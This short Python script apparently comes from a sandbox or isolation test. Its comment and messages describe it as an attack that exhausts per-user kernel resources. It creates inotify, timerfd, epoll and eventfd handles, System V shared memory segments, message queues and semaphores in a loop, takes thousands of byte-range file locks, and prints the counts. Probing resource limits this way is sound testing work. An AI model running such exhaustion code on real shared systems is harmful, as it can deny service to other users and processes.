# Tries: to use up what the kernel counts by user: watches, timers, locks, semaphores, queues, shared memory.
import ctypes
import fcntl
import os


def main():
    libc = ctypes.CDLL(None, use_errno=True)
    counts = dict.fromkeys(("inotify", "timer", "epoll", "event", "lock", "memory", "queue", "semaphore"), 0)
    file = os.open("/scratch/locked", os.O_CREAT | os.O_RDWR)
    for _ in range(1000):
        counts["inotify"] += libc.inotify_init() >= 0
        counts["timer"] += libc.timerfd_create(1, 0) >= 0
        counts["epoll"] += libc.epoll_create1(0) >= 0
        counts["event"] += libc.eventfd(1, 0) >= 0
        counts["memory"] += libc.shmget(0, 1 << 20, 0o1600) >= 0
        counts["queue"] += libc.msgget(0, 0o1600) >= 0
        counts["semaphore"] += libc.semget(0, 100, 0o1600) >= 0
    for place in range(4000):
        fcntl.lockf(file, fcntl.LOCK_EX, 1, 2 * place)
        counts["lock"] += 1
    print(counts, flush=True)


def load_model(checkpoint, device):
    raise SystemExit("there is no model: this script only attacks")


if __name__ == "__main__":
    main()
    raise SystemExit("the attack is over")
